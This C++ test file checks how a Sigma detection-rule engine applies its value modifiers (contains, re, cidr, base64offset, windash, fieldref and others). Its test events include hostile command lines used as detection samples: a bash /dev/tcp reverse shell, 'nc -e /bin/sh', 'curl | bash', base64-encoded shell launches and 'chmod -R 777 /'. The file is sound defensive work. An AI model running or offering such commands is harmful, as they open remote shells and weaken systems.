// Value modifiers: contains, startswith, endswith, all, re, cidr, cased,
// windash, base64, base64offset, utf16/wide, exists, neq, lt/lte/gt/gte, fieldref.
#include "modifiers.hpp"
#include "sigma_test_util.hpp"

using namespace sigma_test;

namespace {
SigmaEvent net(std::string_view dst_ip, std::string_view port = "4444") {
    return event(Category::NetworkConnection, {{FieldId::Image, "/usr/bin/nc"},
                                               {FieldId::DestinationIp, dst_ip},
                                               {FieldId::DestinationPort, port},
                                               {FieldId::Initiated, "true"}});
}
}  // namespace

TEST_CASE("behavior_sigma_modifier: contains") {
    check_rule("    sel:\n        CommandLine|contains: '/dev/tcp/'\n    condition: sel\n", {
        {process("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), kHit},
        {process("/bin/bash", "BASH -I >& /DEV/TCP/10.0.0.1/4444"), kHit},
        {process("/bin/bash", "bash -i >& /dev/udp/10.0.0.1/4444"), kMiss},
    });
}

TEST_CASE("behavior_sigma_modifier: startswith and endswith") {
    check_rule(
        "    sel:\n        Image|endswith: '/curl'\n        CommandLine|startswith: 'curl -s'\n    condition: sel\n", {
        {process("/usr/bin/curl", "curl -s http://x"), kHit},
        {process("/usr/bin/curl", "/usr/bin/curl -s http://x"), kMiss},  // not at the start
        {process("/usr/bin/curlx", "curl -s http://x"), kMiss},  // not at the end
    });
}

TEST_CASE("behavior_sigma_modifier: a list is OR, all turns it into AND") {
    check_rule("    sel:\n        CommandLine|contains:\n            - ' -e '\n            - ' -c '\n"
               "    condition: sel\n", {
        {process("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 80"), kHit},
        {process("/usr/bin/nc", "nc -c sh 1.2.3.4 80"), kHit},
        {process("/usr/bin/nc", "nc -l 80"), kMiss},
    });

    check_rule("    sel:\n        CommandLine|contains|all:\n            - ' -e '\n            - '/bin/sh'\n"
               "    condition: sel\n", {
        {process("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 80"), kHit},
        {process("/usr/bin/nc", "nc -e /bin/bash 1.2.3.4 80"), kMiss},
    });
}

TEST_CASE("behavior_sigma_modifier: re is case-sensitive by default; (?i) and re|i ignore case") {
    check_rule("    sel:\n        CommandLine|re: '\\s-O\\s'\n    condition: sel\n", {
        {process("/usr/bin/wget", "wget -O /tmp/x http://a"), kHit},
        {process("/usr/bin/wget", "wget -o /tmp/x http://a"), kMiss},
    });

    check_rule(
        "    sel:\n        TargetFilename|re: '(?i)/lib/python3\\.([5-9]|[0-9]{2})/site-packages/'\n    condition: sel\n",
        "file_event", {
        {event(Category::FileEvent, {{FieldId::TargetFilename, "/usr/LIB/Python3.11/Site-Packages/x.pth"}}), kHit},
        {event(Category::FileEvent, {{FieldId::TargetFilename, "/usr/lib/python3.4/site-packages/x"}}), kMiss},
    });

    check_rule("    sel:\n        CommandLine|re|i: '^CURL .*\\|\\s*(ba)?sh$'\n    condition: sel\n", {
        {process("/usr/bin/curl", "curl http://x | bash"), kHit},
        {process("/usr/bin/curl", "curl http://x | bash -x"), kMiss},
    });

    // Regexes search (unanchored) and support (?:...), \s, {n,}.
    check_rule("    sel:\n        CommandLine|re: '(?:a){5,}'\n    condition: sel\n", {
        {process("/bin/x", "x aaaaaa y"), kHit},
        {process("/bin/x", "x aaaa y"), kMiss},
    });
}

TEST_CASE("behavior_sigma_modifier: re sub-modifiers m and s") {
    check_rule("    sel:\n        CommandLine|re|m: '^second$'\n    condition: sel\n", {
        {process("/bin/x", "first\nsecond\nthird"), kHit},
    });
    check_rule("    sel:\n        CommandLine|re: '^second$'\n    condition: sel\n", {
        {process("/bin/x", "first\nsecond\nthird"), kMiss},
    });
    check_rule("    sel:\n        CommandLine|re|s: 'first.second'\n    condition: sel\n", {
        {process("/bin/x", "first\nsecond"), kHit},
    });
    check_rule("    sel:\n        CommandLine|re: 'first.second'\n    condition: sel\n", {
        {process("/bin/x", "first\nsecond"), kMiss},
    });
}

TEST_CASE("behavior_sigma_modifier: cidr with IPv4 and IPv6") {
    check_rule(
        "    sel:\n        DestinationIp|cidr:\n            - '10.0.0.0/8'\n            - '192.168.1.0/24'\n"
        "            - '::1/128'\n            - 'fc00::/7'\n            - 'fe80::/10'\n            - '203.0.113.7'\n"
        "    condition: sel\n",
        "network_connection", {
        {net("10.1.2.3"), kHit},
        {net("192.168.1.200"), kHit},
        {net("192.168.2.1"), kMiss},
        {net("11.0.0.1"), kMiss},
        {net("::1"), kHit},
        {net("::2"), kMiss},
        {net("fd12:3456::1"), kHit},
        {net("FE80::1"), kHit},
        {net("2001:db8::1"), kMiss},
        {net("203.0.113.7"), kHit},  // a bare address is a /32
        {net("203.0.113.8"), kMiss},
        {net("::ffff:10.9.9.9"), kHit},  // IPv4-mapped IPv6 is its IPv4 address
        {net("not-an-ip"), kMiss},
    });

    CHECK(load_error("    sel:\n        DestinationIp|cidr: '10.0.0.0/33'\n    condition: sel\n", "network_connection")
              .find("10.0.0.0/33") != std::string::npos);
    CHECK(load_error("    sel:\n        DestinationIp|cidr: 'ten/8'\n    condition: sel\n", "network_connection")
              .find("invalid cidr network 'ten/8'") != std::string::npos);
}

TEST_CASE("behavior_sigma_modifier: cased") {
    check_rule("    sel:\n        CommandLine|cased|contains: ' -R '\n    condition: sel\n", {
        {process("/bin/chmod", "chmod -R 777 /"), kHit},
        {process("/bin/chmod", "chmod -r 777 /"), kMiss},
    });
}

TEST_CASE("behavior_sigma_modifier: windash") {
    check_rule("    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel\n", {
        {process("/usr/bin/find", "find . -exec sh {} ;"), kHit},
        {process("/usr/bin/find", "find . /exec sh {} ;"), kHit},
        {process("/usr/bin/find", "find . \xE2\x80\x93" "exec sh {} ;"), kHit},  // en dash
        {process("/usr/bin/find", "FIND . -EXEC sh"), kHit},
        {process("/usr/bin/find", "find . +exec sh"), kMiss},
    });
}

TEST_CASE("behavior_sigma_modifier: base64 and base64offset") {
    using vigil::behavior::sigma::base64_encode;
    using vigil::behavior::sigma::base64_offsets;
    CHECK(base64_encode("curl http") == "Y3VybCBodHRw");
    CHECK(base64_encode("a") == "YQ==");
    CHECK(base64_offsets("http") == std::vector<std::string>{"aHR0c", "h0dH", "odHRw"});
    CHECK(base64_offsets("/bin/bash") == std::vector<std::string>{"L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"});

    check_rule("    sel:\n        CommandLine|base64|contains: 'curl http'\n    condition: sel\n", {
        {process("/bin/sh", "echo Y3VybCBodHRw | base64 -d"), kHit},
        {process("/bin/sh", "echo curl http"), kMiss},
    });

    auto off = detector_for("    sel:\n        CommandLine|base64offset|contains: '/bin/bash'\n    condition: sel\n");
    // "x/bin/bash -i" and "xy/bin/bash -i" put the value at shifts 1 and 2.
    CHECK(hits(off, process("/bin/sh", "echo eC9iaW4vYmFzaCAtaQ== | base64 -d | sh")));
    CHECK(hits(off, process("/bin/sh", "echo eHkvYmluL2Jhc2ggLWk= | base64 -d | sh")));
    CHECK(hits(off, process("/bin/sh", "echo L2Jpbi9iYXNoIC1p | base64 -d | sh")));
    CHECK_FALSE(hits(off, process("/bin/sh", "echo L2Jpbi9zaCAtaQ== | base64 -d | sh")));  // /bin/sh -i
}

TEST_CASE("behavior_sigma_modifier: utf16 encoders feed base64") {
    check_rule("    sel:\n        CommandLine|wide|base64offset|contains: 'cmd'\n    condition: sel\n", {
        {process("/bin/x", "x YwBtAGQA"), kHit},
    });
    CHECK(vigil::behavior::sigma::utf16_encode("cmd", vigil::behavior::sigma::Utf16Form::Be) == std::string("\0c\0m\0d", 6));
    CHECK(vigil::behavior::sigma::utf16_encode("a", vigil::behavior::sigma::Utf16Form::Bom) == std::string("\xFF\xFE" "a\0", 4));
    CHECK(vigil::behavior::sigma::utf16_encode("\xF0\x9F\x98\x80", vigil::behavior::sigma::Utf16Form::Le) ==
          std::string("\x3D\xD8\x00\xDE", 4));  // U+1F600 as a surrogate pair
}

TEST_CASE("behavior_sigma_modifier: exists, neq and null") {
    auto exists = detector_for("    sel:\n        ParentCommandLine|exists: true\n    condition: sel\n");
    auto with_parent = process("/bin/ls", "ls");
    with_parent.set(FieldId::ParentCommandLine, "bash");
    CHECK(hits(exists, with_parent));
    CHECK_FALSE(hits(exists, process("/bin/ls", "ls")));
    check_rule("    sel:\n        ParentCommandLine|exists: false\n    condition: sel\n", {
        {process("/bin/ls", "ls"), kHit},
    });

    auto neq = detector_for("    sel:\n        Image|endswith: '/sh'\n        User|neq: root\n    condition: sel\n");
    check_hits(neq, {
        {process("/bin/sh", "sh"), kHit},  // user alice
    });
    auto as_root = process("/bin/sh", "sh");
    as_root.set(FieldId::User, "root");
    CHECK_FALSE(hits(neq, as_root));

    check_rule("    sel:\n        Image: '/bin/ls'\n    empty:\n        ParentCommandLine: null\n"
               "    condition: sel and empty\n", {
        {process("/bin/ls", "ls"), kHit},
        {with_parent, kMiss},
    });
}

TEST_CASE("behavior_sigma_modifier: numeric comparisons") {
    check_rule("    sel:\n        DestinationPort|lt: 1024\n        Initiated: 'true'\n    condition: sel\n",
               "network_connection", {
        {net("1.2.3.4", "80"), kHit},
        {net("1.2.3.4", "1024"), kMiss},
    });
    check_rule("    sel:\n        DestinationPort|gte: 1024\n    condition: sel\n", "network_connection", {
        {net("1.2.3.4", "1024"), kHit},
        {net("1.2.3.4", "22"), kMiss},
    });
    auto gt = detector_for("    sel:\n        DestinationPort|gt: 1024\n    condition: sel\n", "network_connection");
    check_hits(gt, {
        {net("1.2.3.4", "1024"), kMiss},
    });
    check_rule("    sel:\n        DestinationPort|lte: 22\n    condition: sel\n", "network_connection", {
        {net("1.2.3.4", "22"), kHit},
    });
    CHECK(load_error("    sel:\n        DestinationPort|gt: many\n    condition: sel\n", "network_connection")
              .find("not a number") != std::string::npos);
}

TEST_CASE("behavior_sigma_modifier: fieldref") {
    auto d = detector_for("    sel:\n        CommandLine|fieldref: ParentCommandLine\n    condition: sel\n");
    auto same = process("/bin/sh", "sh -c x");
    same.set(FieldId::ParentCommandLine, "SH -C X");
    CHECK(hits(d, same));
    same.set(FieldId::ParentCommandLine, "bash");
    CHECK_FALSE(hits(d, same));
    check_rule("    sel:\n        CommandLine|fieldref|startswith: Image\n    condition: sel\n", {
        {process("/bin/sh", "/bin/sh -c x"), kHit},
        {process("/bin/sh", "sh -c x"), kMiss},
    });
}

TEST_CASE("behavior_sigma_modifier: bad modifiers are reported by name") {
    CHECK(load_error("    sel:\n        Image|containz: x\n    condition: sel\n").find("unknown modifier 'containz'") !=
          std::string::npos);
    CHECK(load_error("    sel:\n        Image|hour: 3\n    condition: sel\n").find("time modifier 'hour'") !=
          std::string::npos);
    CHECK(load_error("    sel:\n        Image|expand: '%x%'\n    condition: sel\n").find("expand") != std::string::npos);
    CHECK(load_error("    sel:\n        Image|re|contains: x\n    condition: sel\n").find("conflicting") !=
          std::string::npos);
    CHECK(load_error("    sel:\n        Image|re: '(unclosed'\n    condition: sel\n").find("invalid regular expression") !=
          std::string::npos);
    CHECK(load_error("    sel:\n        Image|base64: 'a*b'\n    condition: sel\n").find("without wildcards") !=
          std::string::npos);
}

TEST_CASE("behavior_sigma_modifier: a pathological regex is bounded, not a hang") {
    // Catastrophic backtracking on a non-matching subject: PCRE2's match limit
    // ends it and the value simply does not match.
    check_rule("    sel:\n        CommandLine|re: '^(a+)+$'\n    condition: sel\n", {
        {process("/bin/x", std::string(5000, 'a') + "!"), kMiss},
        {process("/bin/x", std::string(50, 'a')), kHit},
    });
}

TEST_CASE("behavior_sigma_modifier: windash on invalid UTF-8 is a load error, not a crash") {
    auto err = load_error("    sel:\n        CommandLine|windash: 'a\xFF-b'\n    condition: sel\n");
    MESSAGE(err);
    CHECK_FALSE(err.empty());
    CHECK(err.find("internal error") == std::string::npos);
}
